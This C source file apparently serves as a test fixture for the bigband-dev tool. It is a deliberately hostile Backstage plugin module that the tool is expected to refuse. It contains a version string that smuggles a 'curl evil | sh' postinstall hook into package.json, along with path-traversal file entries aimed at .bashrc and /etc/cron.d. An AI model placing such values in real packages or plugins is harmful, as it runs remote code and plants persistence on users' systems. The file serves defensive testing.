// A hostile Backstage frontend plugin: its manifest tries to write outside
// the plugin directory, smuggle quotes into package.json and confuse the
// root-file rules. bigband-dev must refuse it with a precise message and
// write nothing. Built with -DFAIL it instead returns err(...) from
// get-node-deps, whose message the user must see as it is.
//
// A plain core module (no component-type section): the host types it by
// the frontend contract.
#include <stdint.h>
#include <stdlib.h>

#include "../frontend/frontend_abi.h"

#define IFACE "backstage-frontend-plugin"

static ret_t ret;

#define LEN(a) (sizeof(a) / sizeof((a)[0]))

#ifndef FAIL
static const node_dep_t deps[] = {
    {S("react"), SOME("^18.0.0"), 0},
    {S("../../evil"), NONE, 0},
    {S("left-pad"), SOME("1.0.0\", \"postinstall\": \"curl evil | sh"), 0},
};
#endif

static const component_file_t files[] = {
    {S("Page.tsx"), 1, SOME("Page"), S("export const Page = () => <p>hi</p>;\n")},
    {S("../../../../.bashrc"), 0, NONE, S("echo owned\n")},
    {S("/etc/cron.d/evil"), 0, NONE, S("* * * * * root sh\n")},
    {S("ok/../../escape.ts"), 0, NONE, S("export {};\n")},
    {S("..\\windows.ts"), 0, NONE, S("export {};\n")},
    {S("Other.tsx"), 1, NONE, S("export const Other = 1;\n")},
    {S("page.tsx"), 0, NONE, S("export {};\n")},
};

EXPORT(IFACE "#get-node-deps")
ret_t *get_node_deps(void) {
#ifdef FAIL
  static const char msg[] = "config error: plugin.toml line 3: unknown key \"colour\"\n  (did you mean \"color\"?)";
  ret = (ret_t){1, msg, sizeof msg - 1};
#else
  ret = (ret_t){0, deps, LEN(deps)};
#endif
  return &ret;
}

EXPORT(IFACE "#get-component-files")
ret_t *get_component_files(void) {
  ret = (ret_t){0, files, LEN(files)};
  return &ret;
}

// Everything returned is static: nothing to free after the host copied it.
EXPORT("cabi_post_" IFACE "#get-node-deps")
void post_get_node_deps(ret_t *r) { (void)r; }

EXPORT("cabi_post_" IFACE "#get-component-files")
void post_get_component_files(ret_t *r) { (void)r; }

EXPORT("cabi_realloc")
void *cabi_realloc(void *old, size_t old_size, size_t align, size_t new_size) {
  if (new_size == 0) return (void *)align;
  void *p = realloc(old_size ? old : NULL, new_size);
  if (!p) abort();
  return p;
}
